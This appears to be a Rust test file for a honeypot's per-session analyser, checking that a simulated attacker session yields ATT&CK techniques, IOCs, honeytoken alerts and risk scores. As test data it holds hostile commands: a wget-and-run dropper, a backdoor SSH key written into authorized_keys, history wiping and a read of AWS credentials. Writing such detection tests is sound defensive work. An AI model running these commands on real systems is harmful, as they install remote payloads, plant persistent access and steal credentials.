//! Tests of the per-session analysis: the issue's dropper scenario end to end, in memory.
use super::*;
use miragepot_event::{AuthMethod, InputMode, SessionContext, SessionId, TokenAction};
use time::OffsetDateTime;

use crate::tokens::mint;

fn ctx() -> SessionContext {
    SessionContext {
        sensor: "t".into(),
        session: SessionId::new_at(OffsetDateTime::UNIX_EPOCH),
        src_ip: "198.51.100.7".parse().unwrap(),
        src_port: 40000,
    }
}

fn analysis() -> SessionAnalysis {
    let rules = Arc::new(Rules::builtin().unwrap());
    SessionAnalysis::new(rules, mint(b"k", ctx().session, "/root"))
}

fn ev(kind: EventKind) -> Event {
    ctx().event(OffsetDateTime::UNIX_EPOCH, kind)
}

fn cmd(a: &mut SessionAnalysis, line: &str) -> Vec<EventKind> {
    let score = a.score(line);
    a.observe(&ev(EventKind::CommandInput {
        input: line.into(),
        mode: InputMode::Exec,
        threat_score: score.score,
        threat_rules: score.rules,
    }))
}

fn techniques(out: &[EventKind]) -> Vec<String> {
    out.iter()
        .filter_map(|k| match k {
            EventKind::Technique(t) => Some(t.technique.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn the_dropper_session_gives_techniques_stages_iocs_tokens_and_risk() {
    let mut a = analysis();
    let out = a.observe(&ev(EventKind::AuthAttempt {
        method: AuthMethod::Password,
        username: "root".into(),
        password: Some("root".into()),
        key_fingerprint: None,
        success: true,
        rule: None,
    }));
    assert_eq!(techniques(&out), ["T1078.001"]);
    assert!(matches!(&out[1], EventKind::AttackStage(s) if s.stage == "initial_access"));

    let out = cmd(
        &mut a,
        "cd /tmp; wget http://203.0.113.5/bins.sh; chmod +x bins.sh; ./bins.sh",
    );
    let t = techniques(&out);
    for want in ["T1059.004", "T1105", "T1222.002"] {
        assert!(t.contains(&want.to_string()), "{want} in {t:?}");
    }
    let iocs: Vec<&Ioc> = out
        .iter()
        .filter_map(|k| match k {
            EventKind::Ioc(i) => Some(i),
            _ => None,
        })
        .collect();
    assert_eq!(iocs[0].value, "http://203.0.113.5/bins.sh");
    assert_eq!(iocs[0].defanged, "hxxp://203.0.113[.]5/bins.sh");
    assert_eq!(iocs[1].value, "203.0.113.5");

    let out = a.observe(&ev(EventKind::Download {
        tool: "wget".into(),
        url: "http://203.0.113.5/bins.sh".into(),
        host: "203.0.113.5".into(),
        port: 80,
        destination: Some("/tmp/bins.sh".into()),
        size: Some(100),
        outcome: "saved".into(),
    }));
    // T1105 and the URL were already reported; only the file name is new.
    assert_eq!(out.len(), 1, "{out:?}");
    assert!(
        matches!(&out[0], EventKind::Ioc(i) if i.ioc == IocKind::Filename && i.value == "bins.sh")
    );

    let out = cmd(
        &mut a,
        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh",
    );
    assert!(techniques(&out).contains(&"T1098.004".to_string()));
    assert!(
        out.iter()
            .any(|k| matches!(k, EventKind::AttackStage(s) if s.stage == "persistence"))
    );

    let out = cmd(&mut a, "history -c; rm -f ~/.bash_history");
    assert!(techniques(&out).contains(&"T1070.003".to_string()));

    let aws = a.tokens()[0].clone();
    let read = cmd(&mut a, "cat .aws/credentials");
    assert!(techniques(&read).contains(&"T1552.001".to_string()));
    let out = a.observe(&ev(EventKind::CommandResult {
        input: "cat .aws/credentials".into(),
        output: aws.content.clone(),
        exit_code: 0,
        output_truncated: false,
    }));
    assert!(
        matches!(&out[0], EventKind::HoneytokenTouched(t) if t.action == TokenAction::Read && t.token == TokenKind::AwsKey)
    );
    assert_eq!(
        out.len(),
        1,
        "the technique was reported with the command: {out:?}"
    );

    a.observe(&ev(EventKind::DelayApplied(
        miragepot_event::DelayApplied {
            delay_ms: 1500,
            score: 60,
            band: 40,
        },
    )));
    let s = a.summary(1234);
    assert_eq!(s.commands, 4);
    assert_eq!(s.downloads, 1);
    assert_eq!(s.tokens_touched, 1);
    assert_eq!(s.delay_ms, 1500);
    assert_eq!(s.login, Some(("root".into(), Some("root".into()))));
    assert_eq!(s.stage.as_deref(), Some("command_and_control"));
    assert!(s.stages.contains(&"defense_evasion".to_string()));
    assert_eq!(s.risk_band, RiskBand::Critical, "{s:?}");
    assert!(s.max_threat >= 40);
    assert_eq!(s.command_hash.as_ref().map(String::len), Some(64));
    assert_eq!(s.input_hash, None);
}

#[test]
fn campaign_keys_ignore_spacing_and_follow_order() {
    let run = |lines: &[&str]| {
        let mut a = analysis();
        for l in lines {
            cmd(&mut a, l);
        }
        a.summary(0).command_hash
    };
    assert_eq!(run(&["uname -a", "id"]), run(&["uname  -a ", "id"]));
    assert_ne!(run(&["uname -a", "id"]), run(&["id", "uname -a"]));
}

#[test]
fn typing_rhythm_is_measured() {
    let mut a = analysis();
    for (i, b) in [&b"l"[..], b"s", b"\x7f", b"s", b"\r"].iter().enumerate() {
        a.input(b, 200 * i as u64);
    }
    let s = a.summary(0);
    assert_eq!(s.input.writes, 5);
    assert_eq!(s.input.backspaces, 1);
    assert_eq!(s.input.median_gap_ms, Some(200));
    assert!(s.input_hash.is_some());
    assert_eq!(s.risk_band, RiskBand::Low);
}

#[test]
fn failed_logins_are_credential_access_once() {
    let mut a = analysis();
    let fail = || {
        ev(EventKind::AuthAttempt {
            method: AuthMethod::Password,
            username: "admin".into(),
            password: Some("x".into()),
            key_fingerprint: None,
            success: false,
            rule: None,
        })
    };
    let probe = ev(EventKind::AuthAttempt {
        method: AuthMethod::None,
        username: "admin".into(),
        password: None,
        key_fingerprint: None,
        success: false,
        rule: None,
    });
    assert!(
        a.observe(&probe).is_empty(),
        "a `none` probe guesses nothing"
    );
    assert_eq!(techniques(&a.observe(&fail())), ["T1110.001"]);
    assert!(a.observe(&fail()).is_empty());
    assert_eq!(a.summary(0).login_attempts, 2);
}

#[test]
fn dropped_scripts_give_their_urls_and_profiles_give_credential_techniques() {
    let mut a = analysis();
    let script = b"#!/bin/sh\ncd /tmp || cd /var/run\nwget http://198.51.100.20/x86 -O .d; chmod 777 .d; ./.d ssh\n";
    let out = a.artifact(script);
    let values: Vec<String> = out
        .iter()
        .filter_map(|k| match k {
            EventKind::Ioc(i) => Some(i.value.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(values, ["http://198.51.100.20/x86", "198.51.100.20"]);
    assert!(
        a.artifact(b"\x7fELF\0\0http://198.51.100.21/").is_empty(),
        "binary skipped"
    );
    let out = a.profile_signals(&["password_spraying".into(), "root_targeting".into()]);
    assert_eq!(techniques(&out), ["T1110.003"]);
}
